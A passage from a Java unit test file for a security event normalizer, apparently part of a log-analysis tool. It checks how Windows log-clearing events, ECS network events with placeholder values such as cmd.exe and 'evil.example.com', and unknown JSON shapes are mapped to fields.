    assertTrue(hasRaw(cleared, "UserData.LogFileCleared.SubjectUserName", "admmig"));
  }

  @Test
  void ecsDocumentsKeepTheirOwnFieldsAndInferNothingAboutTheOs() {
    Event e = normalizer.normalize(json("@timestamp", 2000L, "event.id", "n1", "event.category", List.of("network"),
        "event.type", List.of("connection", "protocol", "info"), "process.executable", "C:\\Windows\\cmd.exe",
        "process.entity_id", "{A}", "dns.question.name", "evil.example.com"));
    assertEquals("ecs", e.string(Field.INPUT_TYPE));
    assertEquals(2000L * Ticks.PER_MILLI, e.number(Field.TIMESTAMP));
    assertEquals("cmd.exe", e.string(Field.PROCESS_NAME));
    assertEquals(List.of("connection", "protocol", "info"), e.all(Field.EVENT_TYPE));
    assertFalse(e.has(Field.HOST_OS_TYPE));
    assertEquals("n1", e.string(Field.EVENT_ID));
  }

  @Test
  void unknownShapesKeepEveryFieldRaw() {
    Event e = normalizer.normalize(json("foo", "bar", "n", 3L));
    assertEquals("json", e.string(Field.INPUT_TYPE));
    assertTrue(hasRaw(e, "foo", "bar"));
    assertTrue(hasRaw(e, "n", "3"));
  }
}
